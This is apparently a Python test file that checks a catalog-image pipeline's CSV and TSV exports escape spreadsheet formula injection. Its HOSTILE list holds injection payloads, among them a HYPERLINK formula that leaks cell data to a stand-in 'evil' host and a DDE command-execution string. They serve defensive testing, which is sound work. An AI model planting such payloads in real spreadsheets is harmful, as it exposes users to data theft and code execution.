"""Every CSV/TSV bananaflow writes is safe to open in a spreadsheet: cells starting with
= + - @ tab or CR are written as text, through one helper, and the manifest reads back
exactly as it was."""
from __future__ import annotations

import csv
import io
from pathlib import Path

import boto3
import pytest
from botocore.config import Config

from bananaflow.catalog import Rejection, rejections_to_csv
from bananaflow.landing import csv_safe
from bananaflow.landing.manifest import ManifestRow, read_manifest, write_local
from bananaflow.landing.storage import ImageStore
from bananaflow.planning.jobspec import WritebackSpec
from bananaflow.reports.writeback import merchant_supplemental, shopify_csv

HOSTILE = ['=HYPERLINK("http://evil/?"&A1,"click")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)",
           "\t=1+1", "\r=1+1", "'=already quoted"]
FORMULA = tuple(csv_safe.FORMULA_STARTS)


def cells(text: str, delimiter: str = ",") -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text), delimiter=delimiter) for cell in row]


def assert_no_formula(text: str, delimiter: str = ",") -> None:
    bad = [cell for cell in cells(text, delimiter) if cell.startswith(FORMULA)]
    assert bad == [], bad


@pytest.mark.parametrize("value", [*HOSTILE, "plain", "", "'", "9.90"])
def test_neutralise_round_trips(value: str) -> None:
    safe = csv_safe.neutralise(value)
    assert not safe.startswith(FORMULA)
    assert csv_safe.unneutralise(safe) == value


def test_the_manifest_csv_is_safe_and_reads_back_as_written(tmp_path: Path) -> None:
    rows = [ManifestRow(run_id="r", row_number=i + 2, sku=sku, variant="main", status="failed", error_message=sku)
            for i, sku in enumerate(HOSTILE)]
    paths = write_local(rows, tmp_path)
    assert_no_formula(paths["csv"].read_text(encoding="utf-8"))
    assert [r.sku for r in read_manifest(paths["csv"])] == HOSTILE
    assert [r.sku for r in read_manifest(paths["parquet"])] == HOSTILE  # Parquet is not a spreadsheet: as is


def test_rejected_csv_is_safe() -> None:
    out = rejections_to_csv([Rejection(i + 2, value, f"@reason {value}") for i, value in enumerate(HOSTILE)]).decode()
    assert_no_formula(out)


@pytest.fixture
def store() -> ImageStore:
    client = boto3.client(
        "s3", endpoint_url="http://127.0.0.1:9", aws_access_key_id="AKIDEXAMPLE", aws_secret_access_key="wJalrXUtnFEMI",
        region_name="us-east-1", config=Config(signature_version="s3v4"),
    )
    return ImageStore("shop-images", client=client)


def test_write_back_feeds_are_safe(store: ImageStore, tmp_path: Path) -> None:
    rows = [ManifestRow(run_id="r", row_number=i + 2, sku=sku, variant="main", status="succeeded", key=f"p/{i}/main.png")
            for i, sku in enumerate(HOSTILE)]
    merchant = merchant_supplemental(rows, store, WritebackSpec(format="merchant", public_base_url="https://cdn/"),
                                     ["main"]).decode()
    assert_no_formula(merchant, "\t")
    assert len(cells(merchant, "\t")) == 3 * (1 + len(HOSTILE))
    catalog = tmp_path / "shopify.csv"
    with catalog.open("w", newline="", encoding="utf-8") as handle:
        writer = csv.writer(handle)
        writer.writerow(["Handle", "Title", "Variant SKU", "Image Src", "Image Position", "Image Alt Text"])
        for i, value in enumerate(HOSTILE):
            writer.writerow([f"h{i}", value, value, "", "", ""])
    shopify = shopify_csv(str(catalog), rows, store, WritebackSpec(format="shopify", public_base_url="https://cdn/"),
                          ["main"]).decode()
    assert_no_formula(shopify)
